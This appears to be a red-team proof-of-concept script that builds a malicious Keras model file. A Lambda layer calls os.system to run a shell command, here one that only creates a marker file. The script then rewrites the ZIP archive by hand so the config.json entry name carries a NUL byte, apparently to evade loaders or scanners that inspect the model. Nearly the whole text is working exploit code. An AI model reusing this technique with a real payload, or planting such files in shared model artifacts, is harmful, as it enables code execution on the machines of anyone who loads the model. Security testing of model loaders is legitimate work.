import os
os.environ["KERAS_BACKEND"]="torch"
import keras, zipfile
m = keras.Sequential([keras.Input((4,)), keras.layers.Lambda(lambda x: (__import__("os").system("touch /tmp/rt18/pwned_keras_nulname"), x)[1])])
m.save("base_lambda.keras")
zin = zipfile.ZipFile("base_lambda.keras")
raw = open("base_lambda.keras","rb").read()
# rewrite: every occurrence of the name in headers gets a NUL suffix -> rebuild archive by hand
import struct, zlib
out = bytearray(); cd = bytearray(); n=0
for i in zin.infolist():
    d = zin.read(i.filename)
    name = i.filename.encode()
    if i.filename == "config.json": name += b"\x00x"
    crc = zlib.crc32(d); off = len(out)
    out += struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, 0, 0, 0, 0x21, crc, len(d), len(d), len(name), 0) + name + d
    cd += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 20, 20, 0, 0, 0, 0x21, crc, len(d), len(d), len(name), 0, 0, 0, 0, 0, off) + name
    n += 1
cdo = len(out); out += cd
out += struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, n, n, len(cd), cdo, 0)
open("fn_keras_nulname.keras","wb").write(out)
print([x.filename for x in zipfile.ZipFile("fn_keras_nulname.keras").infolist()])
